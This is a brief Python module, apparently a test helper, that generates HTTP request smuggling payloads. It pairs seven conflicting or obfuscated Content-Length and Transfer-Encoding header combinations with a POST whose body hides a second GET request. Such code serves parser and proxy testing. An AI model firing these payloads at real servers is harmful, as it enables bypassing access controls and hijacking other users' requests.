"""Requests with two contradicting lengths of the body, which would smuggle a second request past a careless reader."""

from __future__ import annotations

_TWICE = {
    "length and chunks": "Content-Length: {n}\r\nTransfer-Encoding: chunked\r\n",
    "chunks and length": "Transfer-Encoding: chunked\r\nContent-Length: {n}\r\n",
    "two lengths": "Content-Length: 0\r\nContent-Length: {n}\r\n",
    "chunks, in disguise": "Content-Length: {n}\r\nTransfer-Encoding : chunked\r\n",
    "chunks, of a kind unknown": "Content-Length: {n}\r\nTransfer-Encoding: xchunked\r\n",
    "a folded header": "Content-Length: {n}\r\nTransfer-Encoding:\r\n chunked\r\n",
    "chunks twice": "Content-Length: {n}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
}
WAYS = tuple(_TWICE)


def told_twice(way: str, path: str, host: str, hidden: str) -> bytes:
    """Write a POST to a path with a GET of another in its body."""
    body = f"0\r\n\r\nGET {hidden} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{_TWICE[way].format(n=len(body))}\r\n{body}".encode()
